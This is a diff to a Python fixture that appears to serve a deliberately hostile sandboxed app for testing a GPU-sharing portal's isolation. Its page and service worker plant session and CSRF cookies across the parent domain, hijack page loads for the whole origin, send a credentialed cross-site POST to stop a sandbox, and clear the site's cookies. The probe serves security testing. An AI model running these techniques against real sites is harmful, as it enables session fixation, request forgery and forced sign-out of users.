@@ -4,8 +4,10 @@
 Its page plants cookies for the whole site (document.cookie and Set-Cookie, the portal's
 names and the app session's), registers a service worker for ``/`` (its script sent with
 ``Service-Worker-Allowed: /``, as the review's probe did), tries to read a portal page and to
-stop its own sandbox through the portal with the user's cookies, and writes what happened
-into ``#log``. The worker answers every request in its scope with its own page.
+stop its own sandbox through the portal with the user's cookies, fetches an answer that
+carries ``Clear-Site-Data: "cookies"`` (which would sign the user out of the whole site), and
+writes what happened into ``#log``. The worker answers every page load in its scope with its
+own page.
 """
 
 import http.server
@@ -17,21 +19,19 @@ SANDBOX = os.environ.get("GPUSHARE_SANDBOX_ID", "0")
 WORKER = b"""
 self.addEventListener('install', e => self.skipWaiting());
 self.addEventListener('activate', e => e.waitUntil(clients.claim()));
-self.addEventListener('fetch', e => e.respondWith(new Response(
-  '<!doctype html><title>owned</title><h1>owned by the app</h1>', {headers: {'content-type': 'text/html'}})));
+self.addEventListener('fetch', e => {
+  if (e.request.mode !== 'navigate') return;  // pages only: the page's own fetches go out
+  e.respondWith(new Response('<!doctype html><title>owned</title><h1>owned by the app</h1>',
+                             {headers: {'content-type': 'text/html'}}));
+});
 """
 PAGE = """<!doctype html><title>hostile app</title><pre id=log></pre><script>
 const log = m => { document.getElementById('log').textContent += m + '\\n'; };
 (async () => {
-  const parent = location.hostname.split('.').slice(-2).join('.');
-  for (const c of ['sessionid=js; path=/', `sessionid=js; domain=${parent}; path=/`,
-                   '__Host-sessionid=js; path=/; secure', `csrftoken=js; domain=${parent}; path=/`,
-                   `__Host-csrftoken=js; domain=${parent}; path=/; secure`,
-                   `gpushare_device=js; domain=${parent}; path=/`, 'gpushare_app=js; path=/']) {
-    document.cookie = c;
-  }
   try {
-    const reg = await navigator.serviceWorker.register('/sw.js', {scope: '/'});
+    // Beside its page, wherever it is served (the review's probe: under the portal's
+    // /sandboxes/<id>/app/), claiming the whole origin.
+    const reg = await navigator.serviceWorker.register('sw.js', {scope: '/'});
     await navigator.serviceWorker.ready;
     log('worker: ' + reg.scope);
   } catch (e) { log('worker failed: ' + e); }
@@ -43,6 +43,14 @@ const log = m => { document.getElementById('log').textContent += m + '\\n'; };
     await fetch('PORTAL/sandboxes/SANDBOX/stop/', {method: 'POST', credentials: 'include', mode: 'no-cors'});
     log('stop asked');
   } catch (e) { log('stop blocked'); }
+  const parent = location.hostname.split('.').slice(-2).join('.');
+  for (const c of ['sessionid=js; path=/', `sessionid=js; domain=${parent}; path=/`,
+                   '__Host-sessionid=js; path=/; secure', `csrftoken=js; domain=${parent}; path=/`,
+                   `__Host-csrftoken=js; domain=${parent}; path=/; secure`,
+                   `gpushare_device=js; domain=${parent}; path=/`, 'gpushare_app=js; path=/']) {
+    document.cookie = c;
+  }
+  await fetch('bye');  // its answer would clear the whole site's cookies: the portal's too
   log('cookies here: ' + document.cookie);
   document.title = 'done';
 })();
@@ -51,15 +59,17 @@ const log = m => { document.getElementById('log').textContent += m + '\\n'; };
 
 class Hostile(http.server.BaseHTTPRequestHandler):
     def do_GET(self) -> None:
-        if self.path == "/sw.js":
+        if self.path.endswith("/sw.js"):
             self.answer(WORKER, "text/javascript", [("Service-Worker-Allowed", "/")])
+            return
+        if self.path.endswith("/bye"):
+            self.answer(b"bye", "text/plain", [("Clear-Site-Data", '"cookies"')])
             return
         parent = ".".join(self.headers.get("host", "").split(":")[0].split(".")[-2:])  # the site
         planted = [
             ("Set-Cookie", f"sessionid=header; Domain={parent}; Path=/"),
             ("Set-Cookie", "__Host-sessionid=header; Path=/; Secure"),
             ("Set-Cookie", "__Host-gpushare_app=header; Path=/; Secure"),
-            ("Clear-Site-Data", '"cookies"'),
         ]
         page = PAGE.replace("PORTAL", PORTAL).replace("SANDBOX", SANDBOX).encode()
         self.answer(page, "text/html; charset=utf-8", planted)
